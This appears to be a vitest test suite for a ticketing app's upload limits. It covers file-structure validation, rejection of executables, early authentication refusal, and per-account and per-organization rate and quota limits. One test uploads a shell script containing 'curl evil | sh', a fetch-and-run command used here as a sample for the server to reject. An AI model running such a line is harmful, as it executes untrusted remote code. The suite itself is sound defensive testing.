/**
 * Upload limits and content structure, through the real app on its own database:
 * - what a file claims must hold: `%PDF-` and junk is no PDF, a truncated PNG is no image, an
 *   ELF is refused whatever its name, a DOCX-named zip needs its document part;
 * - the caller is known before a byte of the files is read: no credentials (401) or a bad
 *   tracking link (404) write no temporary file;
 * - per-account upload rate (429 `rate_limited` with Retry-After) and storage quota (413
 *   `storage_quota_exceeded`), also for replies through a tracking link;
 * - the organization's limits, shared by its accounts (the meter alone, on a memory store).
 */
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync, watch } from 'node:fs';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMemoryLimitStore } from '../src/lib/limit-store.js';
import type { Db } from '../src/lib/db.js';
import { createUploadLimits } from '../src/modules/attachments/upload-limits.js';
import { createTestApp, testConfig, type TestApp } from './helpers/app.js';
import {
  sampleDocx,
  sampleElf,
  sampleImage,
  samplePdf,
  sampleZip,
} from './helpers/sample-files.js';
import { authHeader, signIn, signInAll } from './helpers/auth.js';
import { createOrganizationWithUsers, createUser } from './helpers/factories.js';

/**
 * A well-formed PDF (ISO 32000: header, objects, a cross-reference table with the right
 * offsets, trailer, startxref): `pages` empty pages, the first with a content stream of
 * `streamBytes` random bytes (so its size can be chosen).
 */
function makePdf(pages = 1, streamBytes = 64): Buffer {
  const parts: Buffer[] = [];
  const offsets: number[] = [];
  let size = 0;
  const push = (piece: Buffer | string) => {
    const bytes = typeof piece === 'string' ? Buffer.from(piece, 'latin1') : piece;
    parts.push(bytes);
    size += bytes.length;
  };
  const object = (n: number, ...body: (Buffer | string)[]) => {
    offsets[n] = size;
    push(`${n} 0 obj\n`);
    body.forEach(push);
    push('\nendobj\n');
  };
  push('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n');
  const content = pages + 3;
  const kids = Array.from({ length: pages }, (_, i) => `${i + 3} 0 R`).join(' ');
  object(1, '<</Type/Catalog/Pages 2 0 R>>');
  object(2, `<</Type/Pages/Kids[${kids}]/Count ${pages}>>`);
  for (let i = 0; i < pages; i++) {
    object(
      i + 3,
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]${i === 0 ? `/Contents ${content} 0 R` : ''}>>`,
    );
  }
  const data = randomBytes(streamBytes);
  object(content, `<</Length ${data.length}>>\nstream\n`, data, '\nendstream');
  const count = content + 1;
  const xref = size;
  push(`xref\n0 ${count}\n0000000000 65535 f \n`);
  for (let n = 1; n < count; n++) push(`${String(offsets[n]).padStart(10, '0')} 00000 n \n`);
  push(`trailer\n<</Size ${count}/Root 1 0 R>>\nstartxref\n${xref}\n%%EOF\n`);
  return Buffer.concat(parts);
}

/** The names created in `dir` while `action` runs (inotify through fs.watch). */
async function namesCreatedDuring(dir: string, action: () => Promise<void>): Promise<string[]> {
  const seen: string[] = [];
  const watcher = watch(dir, (_event, name) => {
    if (name) seen.push(String(name));
  });
  try {
    await action();
    // Let events already queued by the kernel arrive.
    await new Promise((resolve) => setTimeout(resolve, 200));
  } finally {
    watcher.close();
  }
  return seen;
}

/**
 * Sends the head of a multipart upload that announces `declaredBytes` of file, writes only
 * 64 KiB of it, and waits for the answer: only a server that answers before reading the body
 * answers at all. The connection is then dropped.
 */
function answerBeforeBody(
  port: number,
  urlPath: string,
  headers: Record<string, string> = {},
  declaredBytes = 50 * 1024 * 1024,
): Promise<{ status: number; body: string }> {
  const boundary = 'docket-limits-boundary';
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="big.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n`,
  );
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        host: '127.0.0.1',
        port,
        method: 'POST',
        path: urlPath,
        headers: {
          ...headers,
          'Content-Type': `multipart/form-data; boundary=${boundary}`,
          'Content-Length': String(head.length + declaredBytes),
        },
      },
      (res) => {
        let body = '';
        res.on('data', (d: Buffer) => (body += d.toString()));
        res.on('end', () => {
          resolve({ status: res.statusCode ?? 0, body });
          req.destroy();
        });
      },
    );
    req.on('error', (error: NodeJS.ErrnoException) => {
      if (error.code !== 'ECONNRESET' && error.code !== 'EPIPE') reject(error);
    });
    req.write(Buffer.concat([head, Buffer.alloc(64 * 1024, 0x20)]));
  });
}

describe('what a file claims must hold', () => {
  let t: TestApp;
  let dataDir: string;
  let agent: string;
  let ticketId: string;

  beforeAll(async () => {
    dataDir = mkdtempSync(path.join(tmpdir(), 'docket-attachments-structure-'));
    t = await createTestApp({
      seed: false,
      config: testConfig({ DATA_DIR: dataDir, ATTACHMENT_CLEANUP_INTERVAL_MINUTES: '0' }),
    });
    agent = await signIn(t, await createUser(t.prisma, { role: 'AGENT' }));
    const ticket = await t
      .http()
      .post('/api/tickets')
      .set(authHeader(agent))
      .send({ subject: 'Documents', description: 'Files for the claim.' });
    expect(ticket.status).toBe(201);
    ticketId = ticket.body.id;
  });
  afterAll(async () => {
    await t?.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  const upload = (name: string, bytes: Buffer) =>
    t
      .http()
      .post(`/api/tickets/${ticketId}/attachments`)
      .set(authHeader(agent))
      .attach('files', bytes, { filename: name, contentType: 'application/octet-stream' });

  const storedCount = () => t.prisma.attachment.count({ where: { ticketId } });

  it('accepts a well-formed PDF and refuses "%PDF-" followed by junk (422 invalid_file)', async () => {
    const real = await upload('claim.pdf', makePdf(3, 2048));
    expect(real.status, real.text).toBe(201);
    expect(real.body.data[0]).toMatchObject({ fileName: 'claim.pdf', mimeType: 'application/pdf' });

    const before = await storedCount();
    const fake = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(200_000)]);
    const res = await upload('invoice.pdf', fake);
    expect(res.status, res.text).toBe(422);
    expect(res.body).toMatchObject({ code: 'invalid_file', status: 422 });
    expect(res.body.detail).toContain('invoice.pdf');
    expect(res.body.errors).toEqual([{ path: 'files.0', message: expect.any(String) }]);
    // A catalog and a trailer, but no page tree: not a document either.
    const noPages = Buffer.from(
      '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
    );
    expect((await upload('empty.pdf', noPages)).status).toBe(422);
    expect(await storedCount()).toBe(before);
  });

  it('still accepts the minimal PDF without a cross-reference table (readers rebuild it)', async () => {
    const res = await upload('minimal.pdf', samplePdf());
    expect(res.status, res.text).toBe(201);
  });

  it('refuses a truncated PNG whose header is intact (422 invalid_image)', async () => {
    const png = await sharp({
      create: {
        width: 400,
        height: 300,
        channels: 3,
        background: '#000000',
        noise: { type: 'gaussian', mean: 128, sigma: 40 },
      },
    })
      .png()
      .toBuffer();
    const truncated = png.subarray(0, Math.floor(png.length * 0.7));
    const before = await storedCount();
    const res = await upload('screenshot.png', truncated);
    expect(res.status, res.text).toBe(422);
    expect(res.body).toMatchObject({ code: 'invalid_image' });
    expect(res.body.detail).toContain('screenshot.png');
    expect(await storedCount()).toBe(before);
    // The whole image is fine.
    expect((await upload('screenshot.png', png)).status).toBe(201);
  });

  it('refuses an animated GIF cut short, whose first frames still decode (422 invalid_image)', async () => {
    const frames = await Promise.all(
      Array.from({ length: 6 }, (_, i) =>
        sharp({
          create: {
            width: 120,
            height: 90,
            channels: 3,
            background: '#000000',
            noise: { type: 'gaussian', mean: 40 * i, sigma: 30 },
          },
        })
          .png()
          .toBuffer(),
      ),
    );
    const gif = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer();
    const res = await upload('animation.gif', gif.subarray(0, Math.floor(gif.length * 0.8)));
    expect(res.status, res.text).toBe(422);
    expect(res.body).toMatchObject({ code: 'invalid_image' });
    expect((await upload('animation.gif', gif)).status).toBe(201);
  });

  it('refuses programs whatever their name: an ELF named report.pdf, a #! script', async () => {
    const elf = await upload('report.pdf', sampleElf());
    expect(elf.status, elf.text).toBe(415);
    expect(elf.body).toMatchObject({ code: 'unsupported_file_type' });
    expect(elf.body.detail).toContain('ELF');
    expect(elf.body.detail).toContain('report.pdf');
    // An ELF whose bytes go on like a PDF is still a program.
    const polyglot = Buffer.concat([sampleElf(), makePdf()]);
    expect((await upload('report.pdf', polyglot)).status).toBe(415);
    const script = await upload('invoice.pdf', Buffer.from('#!/bin/sh\ncurl evil | sh\n'));
    expect(script.status).toBe(415);
    expect(script.body.detail).toContain('#!');
  });

  it('refuses a DOCX-named package without word/document.xml (422 invalid_file)', async () => {
    const contentTypes =
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
    const hollow = sampleZip({
      '[Content_Types].xml': contentTypes,
      'word/styles.xml': '<?xml version="1.0"?><w:styles/>',
    });
    const res = await upload('letter.docx', hollow);
    expect(res.status, res.text).toBe(422);
    expect(res.body).toMatchObject({ code: 'invalid_file' });
    expect(res.body.detail).toContain('letter.docx');
    expect(res.body.detail).toContain('word/document.xml');
    // Its document part present but not XML: refused too.
    const notXml = sampleZip({
      '[Content_Types].xml': contentTypes,
      'word/document.xml': 'MZ this is no XML',
    });
    expect((await upload('letter.docx', notXml)).status).toBe(422);
    // The real thing passes.
    expect((await upload('letter.docx', sampleDocx())).status).toBe(201);
  });

  it('answers 401 to an unauthenticated multipart create before reading it, writing no temporary file', async () => {
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    const tmp = path.join(t.config.attachments.dir, 'tmp');
    let answer: { status: number; body: string } | undefined;
    const created = await namesCreatedDuring(tmp, async () => {
      answer = await answerBeforeBody(port, '/api/tickets');
    });
    expect(answer?.status).toBe(401);
    expect(JSON.parse(answer!.body)).toMatchObject({ code: 'unauthorized' });
    expect(created).toEqual([]);
    // The same through supertest, body complete: 401, nothing written.
    const whole = await namesCreatedDuring(tmp, async () => {
      const res = await t
        .http()
        .post('/api/tickets')
        .field('subject', 'Spam')
        .field('description', 'Spam')
        .attach('files', makePdf(1, 256 * 1024), { filename: 'a.pdf' });
      expect(res.status).toBe(401);
    });
    expect(whole).toEqual([]);
    expect(readdirSync(tmp)).toEqual([]);
  });

  it('answers 404 to files sent through a bad tracking link before reading them', async () => {
    const { port } = t.app.server.address() as AddressInfo;
    const tmp = path.join(t.config.attachments.dir, 'tmp');
    let answer: { status: number; body: string } | undefined;
    const created = await namesCreatedDuring(tmp, async () => {
      answer = await answerBeforeBody(
        port,
        `/api/public/tickets/${'a'.repeat(32)}.${'b'.repeat(43)}/responses`,
      );
    });
    expect(answer?.status).toBe(404);
    expect(created).toEqual([]);
  });
});

describe('upload rate and storage quota per account', () => {
  let t: TestApp;
  let dataDir: string;
  let customer: string;
  let customer2: string;
  let agent: string;

  beforeAll(async () => {
    dataDir = mkdtempSync(path.join(tmpdir(), 'docket-attachments-limits-'));
    t = await createTestApp({
      seed: false,
      config: testConfig({
        DATA_DIR: dataDir,
        ATTACHMENT_CLEANUP_INTERVAL_MINUTES: '0',
        ATTACHMENT_UPLOAD_FILES_PER_ACCOUNT: '3',
        ATTACHMENT_QUOTA_MB_PER_ACCOUNT: '1',
      }),
    });
    const { users } = await createOrganizationWithUsers(t.prisma, {
      customer: { role: 'CUSTOMER' },
      customer2: { role: 'CUSTOMER' },
      agent: { role: 'AGENT' },
    });
    ({ customer, customer2, agent } = await signInAll(t, users));
  });
  afterAll(async () => {
    await t?.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  async function ticketOf(token: string): Promise<string> {
    const res = await t
      .http()
      .post('/api/tickets')
      .set(authHeader(token))
      .send({ subject: 'Receipts', description: 'The receipts you asked for.' });
    expect(res.status).toBe(201);
    return res.body.id;
  }

  async function linkToken(ticketId: string): Promise<string> {
    const link = await t
      .http()
      .get(`/api/tickets/${ticketId}/tracking-link`)
      .set(authHeader(agent));
    expect(link.status).toBe(200);
    return String(link.body.url).split('/t/')[1]!;
  }

  function upload(token: string, ticketId: string, files: { name: string; bytes: Buffer }[]) {
    let req = t.http().post(`/api/tickets/${ticketId}/attachments`).set(authHeader(token));
    for (const file of files) req = req.attach('files', file.bytes, { filename: file.name });
    return req;
  }

  it('answers 429 rate_limited with Retry-After once an account passes its files per window', async () => {
    const ticketId = await ticketOf(customer);
    const token = await linkToken(ticketId);
    const png = await sampleImage('png');
    const first = await upload(customer, ticketId, [
      { name: 'a.png', bytes: png },
      { name: 'b.png', bytes: png },
    ]);
    expect(first.status, first.text).toBe(201);

    // Files 3 and 4 in one request: the 4th passes the limit, the request stores nothing.
    const second = await upload(customer, ticketId, [
      { name: 'c.png', bytes: png },
      { name: 'd.png', bytes: png },
    ]);
    expect(second.status, second.text).toBe(429);
    expect(second.body).toMatchObject({ code: 'rate_limited', status: 429 });
    expect(second.body.errors[0]).toMatchObject({ path: 'files' });
    const retryAfter = Number(second.headers['retry-after']);
    expect(retryAfter).toBeGreaterThanOrEqual(1);
    expect(retryAfter).toBeLessThanOrEqual(3600);
    expect(await t.prisma.attachment.count({ where: { ticketId } })).toBe(2);
    expect(readdirSync(path.join(t.config.attachments.dir, 'tmp'))).toEqual([]);

    // Already at the limit: refused at once.
    const third = await upload(customer, ticketId, [{ name: 'e.png', bytes: png }]);
    expect(third.status).toBe(429);
    expect(Number(third.headers['retry-after'])).toBeGreaterThanOrEqual(1);

    // A reply through the tracking link counts against the requester's account too.
    const reply = await t
      .http()
      .post(`/api/public/tickets/${token}/responses`)
      .field('content', 'Another one.')
      .attach('files', png, { filename: 'f.png' });
    expect(reply.status, reply.text).toBe(429);
    // Without files, the reply is no upload and goes through.
    const text = await t
      .http()
      .post(`/api/public/tickets/${token}/responses`)
      .send({ content: 'Text only.' });
    expect(text.status).toBe(201);

    // Other accounts of the organization keep their own count.
    expect((await upload(agent, ticketId, [{ name: 'g.png', bytes: png }])).status).toBe(201);
  });

  it("counts a guest requester's link replies per client and ticket", async () => {
    const created = await t.http().post('/api/tickets').set(authHeader(agent)).send({
      subject: 'Warranty',
      description: 'Photos of the damage.',
      requesterName: 'Gail Guest',
      requesterEmail: 'gail.guest@example.com',
    });
    expect(created.status).toBe(201);
    const token = await linkToken(created.body.id);
    const png = await sampleImage('png');
    const send = (name: string) =>
      t
        .http()
        .post(`/api/public/tickets/${token}/responses`)
        .field('content', `Photo ${name}`)
        .attach('files', png, { filename: name });
    for (const name of ['1.png', '2.png', '3.png']) expect((await send(name)).status).toBe(201);
    const fourth = await send('4.png');
    expect(fourth.status).toBe(429);
    expect(fourth.headers['retry-after']).toBeDefined();
  });

  it('answers 413 storage_quota_exceeded past the account quota, and frees room when a file is removed', async () => {
    const ticketId = await ticketOf(customer2);
    const first = await upload(customer2, ticketId, [
      { name: 'scan-1.pdf', bytes: makePdf(1, 700 * 1024) },
    ]);
    expect(first.status, first.text).toBe(201);

    const second = await upload(customer2, ticketId, [
      { name: 'scan-2.pdf', bytes: makePdf(1, 700 * 1024) },
    ]);
    expect(second.status, second.text).toBe(413);
    expect(second.body).toMatchObject({ code: 'storage_quota_exceeded', status: 413 });
    expect(second.body.errors[0]).toMatchObject({ path: 'files' });
    expect(await t.prisma.attachment.count({ where: { ticketId } })).toBe(1);
    expect(readdirSync(path.join(t.config.attachments.dir, 'tmp'))).toEqual([]);

    // Removed files no longer count.
    const removed = await t
      .http()
      .delete(`/api/attachments/${first.body.data[0].id}`)
      .set(authHeader(agent));
    expect(removed.status).toBe(204);
    const third = await upload(customer2, ticketId, [
      { name: 'scan-2.pdf', bytes: makePdf(1, 700 * 1024) },
    ]);
    expect(third.status, third.text).toBe(201);
  });
});

describe('organization limits (the meter on a memory store)', () => {
  const noDatabase = {} as Db; // quotas off: the meter never reads the database
  const config = {
    uploadRate: {
      windowMs: 60_000,
      accountFiles: 0,
      accountBytes: 0,
      organizationFiles: 3,
      organizationBytes: 1000,
    },
    quota: { organizationBytes: 0, accountBytes: 0 },
  };
  const uploader = (account: string) => ({ organizationId: 'org-1', account, userId: null });

  it('shares the files of an organization across its accounts', async () => {
    const limits = createUploadLimits({ db: noDatabase, store: createMemoryLimitStore(), config });
    const alice = await limits.begin(uploader('user:alice'));
    await alice.startFile();
    await alice.startFile();
    const bob = await limits.begin(uploader('user:bob'));
    await bob.startFile();
    await expect(bob.startFile()).rejects.toMatchObject({
      status: 429,
      code: 'rate_limited',
      headers: { 'Retry-After': '60' },
    });
    // At the limit: the next request is refused before any file.
    await expect(limits.begin(uploader('user:carol'))).rejects.toMatchObject({ status: 429 });
  });

  it('stops at the chunk that would pass the bytes per window', async () => {
    const store = createMemoryLimitStore();
    const limits = createUploadLimits({ db: noDatabase, store, config });
    const meter = await limits.begin(uploader('user:alice'));
    await meter.startFile();
    await meter.addBytes(600);
    await expect(meter.addBytes(600)).rejects.toMatchObject({ status: 429 });
    // What was received is counted, refused or not.
    expect((await store.peek('upload:bytes:org:org-1')).total).toBe(1200);
    await expect(limits.begin(uploader('user:bob'))).rejects.toMatchObject({ status: 429 });
  });
});
